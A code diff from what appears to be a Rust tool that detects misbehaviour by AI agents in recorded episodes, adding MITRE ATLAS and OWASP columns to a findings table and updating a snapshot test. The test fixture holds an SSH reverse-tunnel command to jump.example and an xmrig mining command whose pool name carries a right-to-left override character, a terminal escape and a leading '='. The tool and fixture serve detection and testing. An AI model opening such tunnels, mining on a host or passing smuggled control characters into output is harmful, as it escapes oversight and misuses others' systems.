@@ -76,6 +76,8 @@ pub fn findings(analysis: &Analysis) -> Table {
         ),
         words("peers", all().map(peers)),
         words("attack", all().map(|finding| joined(&finding.attack, " "))),
+        words("atlas", all().map(|finding| joined(&finding.atlas, " "))),
+        words("owasp", all().map(|finding| joined(&finding.owasp, " "))),
         words("summary", all().map(|finding| &finding.summary)),
         text("persistence", all().map(|finding| finding.persistence.as_ref())),
         words("would_decide", all().map(|finding| joined(&finding.would_decide, "; "))),
@@ -314,9 +316,9 @@ mod tests {
     #[test]
     fn findings_table() {
         insta::assert_snapshot!(shown(findings(&fixture::analysis())), @r#"
-        finding,level,behaviour,episode,run,steps,commands,first,last,log10_lr,strength,p_none,p_step,initiator,best_rival,best_rival_log10_lr,signals,signal_kinds,peers,attack,summary,persistence,would_decide,limits,stability,records
-        F-0001,high,tunnel,ep-001,run-a,4,ssh -f -N -R 2222:localhost:22 jump.example -p 443,2026-11-20T14:14:16.000000000Z,2026-11-20T14:15:01.000000000Z,6.0,very strong,1e-6,0.999999,agent,external-compromise,-3.1,S-0001,ssh-reverse,203.0.113.66:443,T1572,"ssh -R … jump.example:443 → 203.0.113.66:443: SSH, remote forward asked for",,the host's auth log,capture covers 60 % of the episode,,capture.pcap packet 88; transcripts/ep-001.jsonl line 11
-        F-0002,high,mining,ep-001,run-a,5,'=xmrig -o pool\u{202e}.example:3333\x1b[2J,2026-11-20T14:14:16.000000000Z,2026-11-20T14:15:01.000000000Z,6.0,very strong,1e-6,0.999999,agent,external-compromise,-3.1,S-0002,monero-login,198.51.100.23:3333,T1496.001,"… -o pool.example:3333 → Monero login, 9 shares, 45 s",,the host's auth log,capture covers 60 % of the episode,Rests on capture.pcap alone.,capture.pcap packet 88; transcripts/ep-001.jsonl line 11; transcripts/ep-001.jsonl line 14
+        finding,level,behaviour,episode,run,steps,commands,first,last,log10_lr,strength,p_none,p_step,initiator,best_rival,best_rival_log10_lr,signals,signal_kinds,peers,attack,atlas,owasp,summary,persistence,would_decide,limits,stability,records
+        F-0001,high,tunnel,ep-001,run-a,4,ssh -f -N -R 2222:localhost:22 jump.example -p 443,2026-11-20T14:14:16.000000000Z,2026-11-20T14:15:01.000000000Z,6.0,very strong,1e-6,0.999999,agent,external-compromise,-3.1,S-0001,ssh-reverse,203.0.113.66:443,T1572,AML.T0053,ASI02,"ssh -R … jump.example:443 → 203.0.113.66:443: SSH, remote forward asked for",,the host's auth log,capture covers 60 % of the episode,,capture.pcap packet 88; transcripts/ep-001.jsonl line 11
+        F-0002,high,mining,ep-001,run-a,5,'=xmrig -o pool\u{202e}.example:3333\x1b[2J,2026-11-20T14:14:16.000000000Z,2026-11-20T14:15:01.000000000Z,6.0,very strong,1e-6,0.999999,agent,external-compromise,-3.1,S-0002,monero-login,198.51.100.23:3333,T1496.001,AML.T0053,ASI02 ASI10,"… -o pool.example:3333 → Monero login, 9 shares, 45 s",,the host's auth log,capture covers 60 % of the episode,Rests on capture.pcap alone.,capture.pcap packet 88; transcripts/ep-001.jsonl line 11; transcripts/ep-001.jsonl line 14
         "#);
     }
 
